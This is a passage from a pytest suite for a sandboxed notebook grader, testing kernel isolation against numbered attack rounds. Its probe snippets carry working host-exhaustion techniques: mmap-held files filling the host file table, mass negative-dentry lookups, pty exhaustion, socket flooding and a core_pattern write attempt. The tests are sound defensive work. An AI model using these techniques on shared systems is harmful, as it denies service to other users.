                 "/proc/sys/user/max_user_namespaces", "/proc/self/oom_score_adj"):
        assert results[path] in (errno.EROFS, errno.EACCES, errno.ENOENT), (path, results[path])
    chmods = {name: value for name, value in results.items() if name.startswith("chmod ")}
    assert chmods and all(value in (errno.EROFS, errno.EPERM) for value in chmods.values()), chmods
    assert results["clone a user namespace"] == [-1, errno.EPERM]
    assert results["clone3"] == [-1, errno.ENOSYS]
    assert results["writable mounts"] == sorted(["/tmp", "/dev/shm", "/run/kernel/sockets"])


# ---------------------------------------------------------------------------- warm, or cold where the zygote cannot fork


def test_as_root_the_zygote_can_fork_kernels():
    assert os.geteuid() == 0, "CI grades as root"
    assert kernel_pool.zygote_for_this_thread().can_fork_kernels and kernel_pool.warm_kernels(ISOLATION)


@pytest.mark.slow
def test_a_grader_whose_zygote_cannot_fork_grades_with_cold_kernels_and_the_same_scores(tmp_path, monkeypatch):
    # A grader that is not root gets a zygote without capabilities (bubblewrap drops them): its kernels start cold,
    # each in a sandbox of its own. Simulated here by the answer the zygote would give.
    warm_course = copy_course(fixture_course(), tmp_path / "warm")
    build_example_class(warm_course, fixture_course() / "example_class")
    cold_course = Course.open(shutil.copytree(warm_course.root, tmp_path / "cold"))
    chosen = {"assignments": ["01_geometry"], "students": ["ada_reference", "cy_buggy"], "progress": False, "jobs": 1}
    warm = {(o.student, o.score, tuple(sorted(o.cell_scores.items()))) for o in grade(warm_course, **chosen)}
    monkeypatch.setattr(kernel_pool, "_WARM", False)
    forked_before = kernel_pool.kernels_forked_here()
    cold = grade(cold_course, **chosen)
    assert {(o.student, o.score, tuple(sorted(o.cell_scores.items()))) for o in cold} == warm
    assert {o.student: o.score for o in cold} == {"ada_reference": 8.0, "cy_buggy": 6.0}
    assert kernel_pool.kernels_forked_here() == forked_before, "no kernel came from the zygote"
    assert all("kernel_cpu_seconds_at_least" in o.resources for o in cold)  # measured as a child process's


def test_a_kernel_is_an_unprivileged_host_user_of_its_own():
    # Were a kernel, underneath, the grader's user (root), Linux's per-user limits (pending signals, inotify
    # instances, epoll watches, processes) would be root's, and root's files its own (the sixth attack round).
    zygote = kernel_pool.zygote_for_this_thread()
    result = run_probe("import os; open('/run/kernel/sockets/mine', 'w').write('x'); print(os.getuid(), os.getgroups())",
                       Path(tempfile.mkdtemp()))
    assert result.returncode == 0 and result.stdout.split() == ["1000", "[]"], result.stderr
    owner = result.left_owners["mine"]
    assert owner == zygote.kernel_host_uid and owner not in (0, os.geteuid()) and owner >= kernel_pool.KERNEL_UIDS.start


def test_a_cold_kernel_cannot_write_proc_either(tmp_path):
    # A grader that is not root starts each kernel cold, in a sandbox of its own; its /proc is read-only too.
    view = sandbox.build_student_view(tmp_path / "view", rules("01_geometry"))
    probe = ("import errno, os\n"
             "try:\n    os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)); print('opened')\n"
             "except OSError as error:\n    print(errno.errorcode[error.errno])\n")
    command = sandbox.bubblewrap_command(sandbox.launcher_command(ISOLATION, probe_code=probe), view, rules("01_geometry"))
    result = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0 and result.stdout.strip() == "EROFS", (result.stdout, result.stderr)


class _FakeChannel:
    """A kernel client channel that hands out the messages a test gave it, then raises ``Empty``."""

    def __init__(self, messages=()):
        self.messages = list(messages)
        self.read = 0

    async def get_msg(self, timeout=None):
        from queue import Empty

        if not self.messages:
            raise Empty
        self.read += 1
        return self.messages.pop(0)


def _status(state: str, parent: str) -> dict:
    return {"msg_type": "status", "content": {"execution_state": state}, "parent_header": {"msg_id": parent}}


def _ready_client(shell: list, iopub: list, alive: bool = True, published: dict | None = None):
    """A ``VerifiedSocketsClient`` on fake channels; its ``kernel_info`` requests are named ``info-1``, ``info-2``...

    ``published`` maps a request's name to the IOPub messages the kernel sends once it is made.
    """
    import asyncio

    client = sandbox.VerifiedSocketsClient()
    requests = []

    def kernel_info():
        requests.append(f"info-{len(requests) + 1}")
        client._iopub.messages += (published or {}).get(requests[-1], [])
        return requests[-1]

    async def is_alive():
        return alive

    client.__dict__.update(kernel_info=kernel_info, _async_is_alive=is_alive, _handle_kernel_info_reply=lambda reply: None)
    client._shell, client._iopub = _FakeChannel(shell), _FakeChannel(iopub)
    type(client).shell_channel = property(lambda self: self._shell)  # the fake channels, not ZMQ sockets
    type(client).iopub_channel = property(lambda self: self._iopub)
    return client, requests, asyncio


def test_a_kernel_is_ready_at_its_idle_status_and_the_rest_of_iopub_is_left_unread():
    info_reply = {"msg_type": "kernel_info_reply", "content": {"protocol_version": "5.3"}, "parent_header": {}}
    after = [{"msg_type": "stream", "content": {}, "parent_header": {"msg_id": "other"}}] * 5
    iopub = [_status("starting", ""), _status("busy", "info-1"), _status("idle", "other"), _status("idle", "info-1"), *after]
    client, requests, asyncio = _ready_client([info_reply], iopub)
    try:
        asyncio.run(client.wait_for_ready(timeout=5))
        assert requests == ["info-1"]
        assert client._iopub.read == 4  # up to its own idle status; jupyter_client's wait would read all nine
        assert len(client._iopub.messages) == 5
    finally:
        del type(client).shell_channel, type(client).iopub_channel


def test_a_kernel_whose_iopub_stays_silent_is_asked_again_and_a_dead_one_raises():
    info_reply = {"msg_type": "kernel_info_reply", "content": {"protocol_version": "5.3"}, "parent_header": {}}
    client, requests, asyncio = _ready_client([info_reply, info_reply], [], published={"info-2": [_status("idle", "info-2")]})
    try:
        asyncio.run(client.wait_for_ready(timeout=5))
        assert requests == ["info-1", "info-2"]  # info-1's idle status never came: IOPub was not connected yet
    finally:
        del type(client).shell_channel, type(client).iopub_channel
    client, requests, asyncio = _ready_client([], [], alive=False)
    try:
        with pytest.raises(RuntimeError, match="died"):
            asyncio.run(client.wait_for_ready(timeout=5))
    finally:
        del type(client).shell_channel, type(client).iopub_channel


@pytest.mark.slow
def test_a_kernel_flooding_the_graders_sockets_fails_its_own_job_only(tmp_path, monkeypatch):
    # Attack round 7: a kernel sent messages of 40 frames of 60 MiB on the stdin socket, which the grader
    # connected and never read: gigabytes in the grader's memory. stdin is no longer connected, and a job
    # may grow its worker's data by a budget only (here 1 GiB, so the test needs little memory).
    from course_grader.trusted.running import resources

    monkeypatch.setattr(resources, "JOB_DATA_BUDGET_BYTES", 1024**3)
    course = copy_course(fixture_course(), tmp_path / "course")
    build_example_class(course, Path(__file__).resolve().parent / "fixtures" / "flood_class")
    outcomes = {o.student: o for o in grade(course, progress=False, jobs=2)}
    # the largest worker's peak (workers are this process's children; a kernel holds one 60 MiB frame)
    largest_worker_mib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert outcomes["honest"].status == "graded" and outcomes["honest"].score == outcomes["honest"].max_score == 8
    assert outcomes["flood_stdin"].status == "graded" and outcomes["flood_stdin"].score == 8  # nothing received it
    # 3.6 GB sent on IOPub: the worker's libzmq could not hold it, the connection and the cell were lost
    assert outcomes["flood_iopub"].cell_scores["test_augment"] == 0, outcomes["flood_iopub"]
    assert largest_worker_mib < 2560, largest_worker_mib
    assert sandboxes_left() == []


def test_a_zygote_whose_killed_kernel_is_not_gone_is_left_and_the_next_submission_gets_a_new_one():
    # Attack round 7: a kernel outlived SIGKILL (stuck in the disk) holding its user's epoll watches, and every
    # later kernel of its zygote, the same user, failed to start.
    first = kernel_pool.zygote_for_this_thread()
    with first._lock:  # as if a killed kernel had never been reported gone by its keeper
        first._running[10**6] = kernel_pool.WarmProcess(first, 10**6, 0)
    second = kernel_pool.zygote_for_a_submission()
    assert second is not first and second is kernel_pool.zygote_for_this_thread()
    assert kernel_pool.zygote_for_a_submission() is second  # no kernel of its own still there: kept
    assert first.process.wait(60) is not None  # the first one was stopped in the background


def test_the_zygotes_user_namespace_is_owned_by_its_kernels_user_not_by_root():
    # Attack round 7: Linux charges per-user budgets (pending signals, message queues, inotify) at every level up to
    # the owner of each user namespace; a namespace made by root made root pay for what a kernel took.
    import fcntl
    import struct

    if os.geteuid() != 0:
        pytest.skip("a grader that is not root starts every kernel cold, as itself")
    zygote = kernel_pool.zygote_for_this_thread()
    inner = [pid for pid in descendants(zygote.process.pid) if b"in_sandbox.zygote" in _command_line(pid)]
    assert inner, "the zygote's process"
    descriptor = os.open(f"/proc/{inner[0]}/ns/user", os.O_RDONLY)
    try:
        owner = bytearray(4)
        fcntl.ioctl(descriptor, 0xB704, owner)  # NS_GET_OWNER_UID
    finally:
        os.close(descriptor)
    assert struct.unpack("I", owner)[0] == zygote.kernel_host_uid != 0


def test_a_kernel_can_open_no_pty(tmp_path):
    # Rounds 6 and 8: each pty a kernel opens counts in the host's kernel.pty.nr (a kernel took all 3,071 of them).
    outcomes = probe_json("""
        import json, os, pty
        results = {}
        for name, attempt in {"/dev/ptmx": lambda: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY),
                              "/dev/pts/ptmx": lambda: os.open("/dev/pts/ptmx", os.O_RDWR | os.O_NOCTTY),
                              "openpty": lambda: pty.openpty()[0]}.items():
            try:
                attempt()
                results[name] = "opened"
            except OSError as error:
                results[name] = type(error).__name__
        print(json.dumps(results))
    """, tmp_path)
    assert "opened" not in outcomes.values(), outcomes
    assert set(outcomes) == {"/dev/ptmx", "/dev/pts/ptmx", "openpty"}


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's cgroups (and so its kernel memory) are a root grader's")
def test_a_kernel_holding_the_hosts_open_files_through_mappings_is_killed(tmp_path):
    # Attack round 8: children that open a file, map a page of it and close the descriptor keep the file open,
    # outside RLIMIT_NOFILE; 34 of them filled the host's whole file table (fs.file-max) and other students'
    # kernels failed. About 0.5 KiB of kernel memory each: 4 x 60,000 are over the sandbox's kernel memory cap.
    zygote = kernel_pool.zygote_for_this_thread()
    kills_before = zygote.kernel_memory_kills
    result = run_probe("""
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        path = os.path.join(os.path.dirname(os.__file__), "os.py")
        children = []
        for _ in range(4):
            pid = os.fork()
            if pid == 0:
                mapped = 0
                for _ in range(60000):
                    descriptor = os.open(path, os.O_RDONLY)
                    mapped += libc.mmap(None, 4096, 1, 2, descriptor, 0) not in (None, ctypes.c_void_p(-1).value)
                    os.close(descriptor)  # the mapping keeps the file open
                print("mapped", mapped, flush=True)
                time.sleep(30)
                os._exit(0)
            children.append(pid)
        for pid in children:
            os.waitpid(pid, 0)
        print("held them all")
    """, tmp_path)
    assert "held them all" not in result.stdout
    assert result.returncode in (-9, 128 + 9), (result.returncode, result.stderr[-500:])  # SIGKILL, as its keeper reports it
    assert zygote.kernel_memory_kills > kills_before


#: A probe that looks up names that do not exist under /usr/lib: each leaves a negative dentry of the host's dcache
#: charged to the sandbox's memory cgroup, which outlives the process (about 20 MiB here, under the watchdog's cap).
LOOK_UP_MISSING_NAMES = """
    import os, secrets
    prefix = "/usr/lib/" + secrets.token_hex(40)
    for number in range({count}):
        try:
            open(f"{{prefix}}{{number}}")
        except OSError:
            pass
    print("looked up")
"""


def _kernel_memory_mib(group: Path) -> float:
    return int((group / "memory.kmem.usage_in_bytes").read_text()) / 2**20


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's cgroups (and so its kernel memory) are a root grader's")
def test_a_zygote_whose_kernels_left_kernel_memory_charged_serves_no_further_submission(tmp_path):
    # Attack round 9: two million failed lookups under /usr/lib (negative dentries) stayed charged to the zygote's
    # cgroup after its kernel was killed, and the watchdog then killed every later kernel of that zygote at start:
    # 77 of 77 submissions failed.
    first = kernel_pool.zygote_for_a_submission()
    assert first.spoiled() == ""
    result = run_probe(LOOK_UP_MISSING_NAMES.format(count=80_000), tmp_path)
    assert "looked up" in result.stdout, result.stderr[-500:]
    assert not first.has_live_kernels() and first.kernel_memory_kills == 0  # under the cap: nobody was killed
    assert "of kernel memory charged to its sandbox" in first.spoiled()
    second = kernel_pool.zygote_for_a_submission()
    assert second is not first and second.spoiled() == "" and kernel_pool.zygote_for_a_submission() is second
    assert first.process.wait(60) is not None  # stopped in the background


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's cgroups are a root grader's")
def test_what_a_sandbox_left_charged_to_its_cgroup_is_reclaimed_before_it_is_removed():
    # The same dentries, from a plain process in a sandbox's cgroups: removed as they are, they would stay in the
    # host's dcache (2.2 million after the ninth attack round's runs), charged to the parent cgroup.
    with sandbox.sandbox_cgroups() as procs:
        groups = [path.parent for path in procs if (path.parent / "memory.kmem.usage_in_bytes").is_file()]
        if not groups:
            pytest.skip("no cgroup v1 memory controller with kernel memory accounting here")
        code = textwrap.dedent(LOOK_UP_MISSING_NAMES.format(count=80_000))
        subprocess.run(sandbox.detached([sys.executable, "-c", code], procs), check=True, timeout=120)
        left = _kernel_memory_mib(groups[0])
        assert left > 10, left
        time.sleep(1)
        assert _kernel_memory_mib(groups[0]) > left * 0.8  # nothing frees them while the host has memory to spare
        sandbox._reclaim_memory(groups[0])
        deadline = time.monotonic() + 30  # the dentries are freed after an RCU grace period
        while _kernel_memory_mib(groups[0]) > left / 4 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _kernel_memory_mib(groups[0]) < left / 4, (left, _kernel_memory_mib(groups[0]))


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="raw system call numbers are those of x86_64")
def test_a_kernel_can_do_no_direct_io(tmp_path):
    # Attack round 10: threads looping on O_DIRECT reads of a large host file kept a killed kernel alive for seconds
    # (round 7 did it with Linux AIO, refused since).
    outcomes = probe_json("""
        import ctypes, fcntl, json, os
        libc = ctypes.CDLL(None, use_errno=True)
        path = os.__file__
        results = {}
        def attempt(name, call):
            try:
                call()
                results[name] = "allowed"
            except OSError as error:
                results[name] = error.errno
        attempt("open O_DIRECT", lambda: os.open(path, os.O_RDONLY | os.O_DIRECT))
        plain = os.open(path, os.O_RDONLY)
        attempt("fcntl F_SETFL O_DIRECT", lambda: fcntl.fcntl(plain, fcntl.F_SETFL, os.O_DIRECT))
        attempt("fcntl F_SETFL O_NONBLOCK", lambda: fcntl.fcntl(plain, fcntl.F_SETFL, os.O_NONBLOCK))
        how = (ctypes.c_uint64 * 3)(os.O_RDONLY | os.O_DIRECT, 0, 0)  # struct open_how
        value = libc.syscall(437, -100, path.encode(), ctypes.byref(how), ctypes.sizeof(how))  # openat2
        results["openat2"] = ctypes.get_errno() if value == -1 else "allowed"
        with open(path, "rb") as handle:  # an ordinary read still works
            results["read"] = len(handle.read(10))
        print(json.dumps(results))
    """, tmp_path)
    assert outcomes == {"open O_DIRECT": errno.EPERM, "fcntl F_SETFL O_DIRECT": errno.EPERM,
                        "fcntl F_SETFL O_NONBLOCK": "allowed", "openat2": errno.ENOSYS, "read": 10}, outcomes
